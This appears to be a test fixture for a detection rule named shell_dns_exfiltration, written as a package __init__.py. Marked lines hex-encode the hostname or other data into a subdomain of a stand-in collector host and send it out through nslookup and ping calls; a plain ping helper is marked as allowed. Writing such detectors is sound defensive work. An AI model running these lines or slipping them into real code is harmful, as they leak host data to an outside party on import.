# fixture: path=pkg/__init__.py
import os, socket, binascii
label = binascii.hexlify(socket.gethostname().encode()).decode()
name = label + '.collector.example'
# ruleid: shell_dns_exfiltration
os.system("nslookup %s" % name)
encoded = ''
for c in data:
    encoded += "%02x" % ord(c)
domain = encoded + suffix
# ruleid: shell_dns_exfiltration
os.system("ping %s" % domain)


def wait_for_ping(server_ip):
    # ok: shell_dns_exfiltration
    return os.system("ping -c 1 " + server_ip)
